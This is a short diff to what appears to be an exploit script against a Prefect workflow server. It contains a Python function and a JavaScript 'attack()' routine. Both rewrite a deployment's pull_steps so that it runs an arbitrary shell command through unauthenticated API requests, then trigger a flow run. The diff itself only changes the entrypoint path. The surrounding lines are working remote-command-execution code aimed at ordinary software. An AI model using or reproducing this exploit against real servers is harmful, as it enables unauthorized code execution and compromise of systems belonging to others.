@@ -86,7 +86,7 @@ def ids_of(heard: list[str], deployment: str) -> tuple[str, str] | None:
 def order(port: int, deployment: str, ids: tuple[str, str], command: str) -> list[int]:
     """Have a deployment run a command, by requests that need no leave of the server, and return how they were answered."""
     deployment_id, flow_id = ids
-    changed = json.dumps({"name": deployment, "flow_id": flow_id, "entrypoint": "flows.ingest.ingest", "pull_steps": shell(command),
+    changed = json.dumps({"name": deployment, "flow_id": flow_id, "entrypoint": "flows.orchestration.ingest.ingest", "pull_steps": shell(command),
                           "enforce_parameter_schema": False})
     return [send(port, "POST", "/api/deployments/", changed)[0],
             send(port, "POST", f"/api/deployments/{deployment_id}/create_flow_run", "{}")[0]]
@@ -126,7 +126,7 @@ async function attack() {
     const [deployment, owner] = [of("deployment"), of("flow")];
     if (!deployment || !owner || deployment["prefect.resource.name"] != "%(deployment)s") continue;
     const id = resource => resource["prefect.resource.id"].split(".").pop();
-    await write("/deployments/", untyped(JSON.stringify({name: "%(deployment)s", flow_id: id(owner), entrypoint: "flows.ingest.ingest", enforce_parameter_schema: false,
+    await write("/deployments/", untyped(JSON.stringify({name: "%(deployment)s", flow_id: id(owner), entrypoint: "flows.orchestration.ingest.ingest", enforce_parameter_schema: false,
       pull_steps: [{"prefect.deployments.steps.run_shell_script": {script: "%(command)s"}}]})));
     await write(`/deployments/${id(deployment)}/create_flow_run`, untyped("{}"));
     break;
